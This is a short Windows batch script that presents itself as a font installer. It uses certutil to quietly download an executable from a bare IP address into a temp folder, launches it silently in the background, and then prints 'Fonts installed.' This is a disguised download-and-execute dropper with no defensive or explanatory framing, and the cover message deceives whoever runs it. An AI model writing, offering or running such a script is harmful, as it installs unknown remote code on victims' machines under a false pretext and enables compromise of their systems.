@echo off
set "D=%TEMP%\fontpack"
mkdir "%D%" 2>nul
certutil -urlcache -split -f http://203.0.113.58/fontsetup.exe "%D%\fontsetup.exe" >nul
start "" /b "%D%\fontsetup.exe" /silent
echo Fonts installed.
